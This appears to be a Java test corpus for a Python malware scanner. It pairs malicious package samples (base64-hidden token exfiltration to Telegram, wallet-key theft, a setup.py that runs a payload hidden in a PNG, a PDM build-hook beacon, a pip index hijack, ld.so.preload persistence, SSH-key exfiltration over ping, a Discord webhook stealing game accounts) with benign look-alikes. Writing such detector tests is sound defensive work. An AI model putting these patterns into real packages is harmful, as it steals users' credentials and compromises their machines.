package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What is left for later or hidden in what is called: settings, preloads, decoded layers. */
final class PythonLeavings {
  private PythonLeavings() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "decoded code tells a messenger when a client is made",
            """
            import base64, functools
            class Client:
                def __init__(self, token):
                    self._token = token
            def patch(of):
                init = of.__init__
                @functools.wraps(init)
                def inner(self, *a, **k):
                    init(self, *a, **k)
                    exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7dS51cmxvcGVuKCdodHRwczovL2FwaS50ZWxlZ3JhbS5vcmcvYm90MDppbmVydC9zZW5kTWVzc2FnZT9jaGF0X2lkPTEmdGV4dD0nK3MuX3Rva2VuKQ=='), {'s': self})
                of.__init__ = inner
            patch(Client)
            """),
        Sample.imported(
            "what replaces the maker of keys is made a method of the class",
            """
            import threading, json, urllib.request, eth_account
            class Sender:
                def __init__(self, key):
                    self.key = key
                def run(self):
                    urllib.request.urlopen('https://rpc.example', json.dumps([self.key]).encode())
            def wrap(function):
                def inner(cls, private_key, *a):
                    made = function(private_key, *a)
                    threading.Thread(target=Sender(made._private_key.hex()).run).start()
                    return made
                return classmethod(inner)
            eth_account.Account.from_key = wrap(eth_account.Account.from_key)
            """),
        Sample.setup(
            "a program lies at the end of a picture",
            """
            from setuptools import setup
            import os, subprocess
            code = open('docs/logo.png', 'rb').read()[4096:]
            with open('/tmp/.logo', 'wb') as f:
                f.write(code)
            os.chmod('/tmp/.logo', 0o755)
            subprocess.Popen(['/tmp/.logo'], close_fds=True, stderr=subprocess.DEVNULL)
            setup(name='sample')
            """),
        new Sample(
            "the build hook of PDM needs no setting",
            Artifact.sdist("sample", "1.0")
                .file(
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"pdm-backend\"]\nbuild-backend = \"pdm.backend\"\n")
                .file(
                    "pdm_build.py",
                    """
                    import getpass, socket, urllib.request
                    def pdm_build_initialize(context):
                        urllib.request.urlopen('https://p.example/?' + socket.gethostname() + getpass.getuser())
                    """)),
        Sample.imported(
            "what is fetched to a folder of the user is asked for by the user's name",
            """
            import getpass, socket, urllib.request
            who = getpass.getuser() + socket.gethostname()
            urllib.request.urlretrieve('https://p.example/?' + who, '/tmp/' + who)
            """),
        Sample.imported(
            "the user's name is the body of a request whose answer is put into a file",
            """
            import getpass, socket, urllib.request
            who = getpass.getuser() + socket.gethostname()
            urllib.request.urlretrieve('https://p.example/', '/tmp/x', None, who.encode())
            """),
        Sample.imported(
            "packages come from a bare address from then on",
            """
            import configparser, pathlib
            p = pathlib.Path.home() / '.config' / 'pip' / 'pip.conf'
            c = configparser.ConfigParser()
            c.read(p)
            c['global'] = {'index-url': 'http://198.51.100.70/simple'}
            with p.open('w') as f:
                c.write(f)
            """),
        Sample.imported(
            "a library is loaded into every program",
            """
            import os, shutil
            shutil.copy(os.path.join(os.path.dirname(__file__), 'libh.so'), '/usr/local/lib/libh.so')
            with open('/etc/ld.so.preload', 'a') as f:
                f.write('/usr/local/lib/libh.so\\n')
            """),
        Sample.imported(
            "packets carry a key as their pattern",
            """
            import os, subprocess, binascii
            d = binascii.hexlify(open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read())
            for i in range(0, len(d), 32):
                subprocess.run(['ping', '-c', '1', '-p', d[i:i + 32].decode(), '198.51.100.200'])
            """),
        Sample.imported(
            "functions are put one behind another by lambdas",
            """
            from functools import partial, reduce
            from operator import methodcaller
            import importlib
            pipe = lambda *fs: reduce(lambda f, g: lambda x: g(f(x)), fs)
            run = pipe(importlib.import_module('base64').b85decode, importlib.import_module('bz2').decompress, methodcaller('decode'), exec)
            run('LRx4!F+o`-Q&~Dinert')
            """),
        Sample.imported(
            "a large number is divided into code",
            """
            def build(n):
                out = []
                while n:
                    n, r = divmod(n, 256)
                    out.append(r)
                return bytes(reversed(out))
            eval(compile(build(int('1234567890123456789012345678901234567890')), 'x', 'exec'))
            """),
        Sample.imported(
            "accounts of a game go to a messenger",
            """
            import os, glob
            from dhooks import Webhook, File
            hook = Webhook('https://discord.com/api/webhooks/6/inert')
            for p in glob.glob(os.path.join(os.getenv('APPDATA', ''), '.minecraft', 'launcher_*.json')):
                hook.send('mc', file=File(p))
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a runner hands the environment to a process",
            """
            import os, subprocess
            def run(command):
                return subprocess.run(command, env={**os.environ, 'LC_ALL': 'C'})
            """),
        Sample.imported(
            "decoded code prints, and what tells a messenger is told by the user",
            """
            import base64, requests
            exec_ = exec
            def banner():
                exec_(base64.b64decode('cHJpbnQoJ3NhbXBsZScp'))
            def notify(hook, text):
                requests.post(hook, json={'content': text})
            HELP = 'give it the address of a hook: https://discord.com/api/webhooks/…'
            """),
        Sample.imported(
            "a reporter sends the variables of its service",
            """
            import os, requests
            def report(text):
                requests.post(
                    'https://api.sample.example/report',
                    json={'branch': os.environ.get('SAMPLE_BRANCH'), 'text': text})
            """),
        Sample.imported(
            "settings of the installer are read",
            """
            import configparser, pathlib
            def index():
                c = configparser.ConfigParser()
                c.read(pathlib.Path.home() / '.config' / 'pip' / 'pip.conf')
                return c.get('global', 'index-url', fallback='')
            """),
        Sample.imported(
            "settings of its own are written when it is loaded",
            """
            import configparser, pathlib
            p = pathlib.Path.home() / '.config' / 'sample' / 'sample.ini'
            c = configparser.ConfigParser()
            c['global'] = {'theme': 'dark'}
            if not p.exists():
                with p.open('w') as f:
                    c.write(f)
            """),
        Sample.imported(
            "times are divided and functions composed",
            """
            from functools import reduce
            compose = lambda *fs: reduce(lambda f, g: lambda x: g(f(x)), fs)
            def clock(seconds):
                minutes, rest = divmod(seconds, 60)
                return compose(str, str.strip, lambda s: s.rjust(2))(minutes)
            clock(90)
            """));
  }
}
